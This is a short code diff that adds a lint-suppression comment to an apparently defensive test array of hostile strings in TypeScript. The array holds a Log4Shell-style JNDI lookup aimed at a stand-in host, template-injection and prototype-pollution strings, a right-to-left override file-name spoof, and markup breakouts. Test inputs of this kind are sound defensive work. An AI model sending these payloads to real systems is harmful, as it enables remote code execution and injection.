@@ -174,6 +174,7 @@ const NASTY: readonly string[] = [
   'https://evil.example/?a=b&c=d www.evil.example mailto:a@evil.example evil.example',
   '\u202egnp.exe\u200b\u2066x\ufeff\u0000\u0007\u0085\u2028',
   '\ud83d alone \udc00 and \ud83d\ude00 whole',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what some loggers fill in
   '${jndi:ldap://evil.example/a} {{constructor.constructor}} {{{title}}} {{> part}}',
   '__proto__',
   ']]> --> */ \\u003cscript\\u003e',
